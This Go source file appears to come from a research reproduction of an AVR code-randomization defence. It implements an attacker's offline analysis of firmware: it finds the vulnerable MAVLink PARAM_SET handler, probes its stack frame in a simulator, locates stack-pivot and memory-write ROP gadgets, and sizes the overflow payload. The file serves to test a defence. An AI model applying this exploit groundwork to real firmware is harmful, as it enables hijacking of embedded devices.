package attack

import (
	"errors"
	"fmt"

	"mavr/internal/avr"
	"mavr/internal/elfobj"
	"mavr/internal/gadget"
	"mavr/internal/mavlink"
)

// Analysis is everything the attacker derives from the unprotected
// binary before crafting payloads: gadget addresses, the vulnerable
// handler's frame geometry, and the runtime constants (buffer address,
// original return address) observed by test-driving their own copy of
// the firmware.
type Analysis struct {
	// StkMove is the Fig. 4 SP-pivot gadget.
	StkMove *gadget.StkMove
	// WriteMem is the Fig. 5 arbitrary-write combination gadget.
	WriteMem *gadget.WriteMem

	// HandlerAddr is the word address of handle_param_set.
	HandlerAddr uint32
	// PushRegs are the handler prologue's pushed registers in push
	// order; the epilogue pops them in reverse.
	PushRegs []int
	// FrameBytes is the handler's stack frame allocation.
	FrameBytes int

	// S0 is the stack pointer at handler entry (deterministic on this
	// firmware). The 3-byte return address sits at S0+1..S0+3.
	S0 uint16
	// BufAddr is the data-space address of the stack buffer's first
	// byte — where the overflow copy begins.
	BufAddr uint16
	// OrigRet is the handler's legitimate return address (word).
	OrigRet uint32
	// OrigR28 and OrigR29 are the caller's frame-pointer bytes that the
	// stealthy attack must restore.
	OrigR28, OrigR29 byte
	// OrigRegs holds the caller's value of every register the handler
	// saves (observed at handler entry by the probe); the clean return
	// restores the full program context, not just the frame pointer.
	OrigRegs map[int]byte
}

// Analysis errors.
var (
	ErrNoHandler      = errors.New("attack: no handle_param_set symbol in binary")
	ErrBadPrologue    = errors.New("attack: handler prologue shape not recognized")
	ErrProbeFailed    = errors.New("attack: probe run never reached the handler")
	ErrPayloadTooLong = errors.New("attack: chain does not fit the vulnerable frame")
)

// Analyze performs the attacker's offline analysis of an application
// binary (flash image + ELF symbols): the frame analysis, then the
// canonical Fig. 4/5 gadgets of the application's own code.
func Analyze(elf *elfobj.File) (*Analysis, error) {
	a, err := AnalyzeFrame(elf)
	if err != nil {
		return nil, err
	}
	if err := a.UseFixedGadgets(elf.Text, 0); err != nil {
		return nil, err
	}
	return a, nil
}

// AnalyzeFrame performs the gadget-independent half of the offline
// analysis: the handler symbol lookup, the prologue decode (saved
// registers, frame size) and the probe run that observes the handler's
// runtime stack constants. StkMove and WriteMem stay nil — chain
// synthesis fills the gadget roles from shaped candidates instead of
// the canonical Fig. 4/5 matches.
func AnalyzeFrame(elf *elfobj.File) (*Analysis, error) {
	a := &Analysis{}
	image := elf.Text

	var handler *elfobj.Symbol
	for i, s := range elf.Symbols {
		if s.Kind == elfobj.SymFunc && s.Name == "handle_param_set" {
			handler = &elf.Symbols[i]
			break
		}
	}
	if handler == nil {
		return nil, ErrNoHandler
	}
	a.HandlerAddr = handler.Value / 2

	if err := a.analyzePrologue(image); err != nil {
		return nil, err
	}
	if err := a.probe(image); err != nil {
		return nil, err
	}
	return a, nil
}

// analyzePrologue statically decodes the handler prologue to recover
// the saved-register list and frame size.
func (a *Analysis) analyzePrologue(image []byte) error {
	pc := a.HandlerAddr
	for i := 0; i < 32; i++ {
		in := avr.DecodeAt(image, pc)
		switch in.Op {
		case avr.OpPUSH:
			a.PushRegs = append(a.PushRegs, in.D)
		case avr.OpSUBI:
			if in.D == 28 {
				a.FrameBytes |= in.K
			}
		case avr.OpSBCI:
			if in.D == 29 {
				a.FrameBytes |= in.K << 8
			}
		case avr.OpSBIW:
			if in.D == 28 {
				a.FrameBytes = in.K
			}
		case avr.OpOUT:
			if in.A == avr.IOAddrSPL {
				// End of the SP-allocation idiom.
				if len(a.PushRegs) == 0 || a.FrameBytes == 0 {
					return ErrBadPrologue
				}
				return nil
			}
		case avr.OpIN:
			// frame-pointer load; keep scanning
		default:
			// arithmetic noise is fine
		}
		pc += uint32(in.Words)
	}
	return ErrBadPrologue
}

// probe test-drives the attacker's own copy of the firmware with a
// benign PARAM_SET packet and observes the stack state at handler
// entry.
func (a *Analysis) probe(image []byte) error {
	sim, err := NewSim(image)
	if err != nil {
		return err
	}
	probe := &mavlink.Frame{
		MsgID:   mavlink.MsgIDParamSet,
		Payload: (&mavlink.ParamSet{ParamID: "PROBE"}).Marshal(),
	}
	sim.SendFrame(probe)
	ok, fault := sim.RunUntilPC(a.HandlerAddr, 20_000_000)
	if !ok {
		return fmt.Errorf("%w (fault: %v)", ErrProbeFailed, fault)
	}
	c := sim.CPU
	a.S0 = c.SP()
	a.OrigRet = uint32(c.Data[a.S0+1])<<16 | uint32(c.Data[a.S0+2])<<8 | uint32(c.Data[a.S0+3])
	a.OrigR28 = c.Reg(28)
	a.OrigR29 = c.Reg(29)
	a.OrigRegs = make(map[int]byte, len(a.PushRegs))
	for _, r := range a.PushRegs {
		a.OrigRegs[r] = c.Reg(r)
	}
	a.BufAddr = a.S0 - uint16(len(a.PushRegs)) - uint16(a.FrameBytes) + 1
	return nil
}

// UseFixedGadgets sets the analysis's gadgets to the canonical Fig. 4/5
// matches in code, whose first byte sits at flash byte startByte.
// Analyze applies it to the application itself; applied to a fixed
// (never randomized) code region it makes the paper's §VI-B4 warning
// concrete: the prototype's serial bootloader sits at a constant
// address, so its gadgets remain valid across every randomization.
func (a *Analysis) UseFixedGadgets(code []byte, startByte uint32) error {
	gs := gadget.Scan(code, 24)
	sm, err := gadget.FindStkMove(gs)
	if err != nil {
		return err
	}
	wm, err := gadget.FindWriteMem(gs, 5)
	if err != nil {
		return err
	}
	sm.Addr += startByte / 2
	wm.StoreAddr += startByte / 2
	wm.PopsAddr += startByte / 2
	a.StkMove = sm
	a.WriteMem = wm
	return nil
}

// PayloadLen is the payload size needed to exactly overwrite the frame,
// saved registers and 3-byte return address.
func (a *Analysis) PayloadLen() int { return a.FrameBytes + len(a.PushRegs) + 3 }

// epilogue pop slots: the handler pops PushRegs in reverse order from
// payload offset FrameBytes upward.
func (a *Analysis) popSlot(reg int) int {
	for i := 0; i < len(a.PushRegs); i++ {
		if a.PushRegs[len(a.PushRegs)-1-i] == reg {
			return a.FrameBytes + i
		}
	}
	return -1
}

// retSlot is the payload offset of the overwritten return address.
func (a *Analysis) retSlot() int { return a.FrameBytes + len(a.PushRegs) }
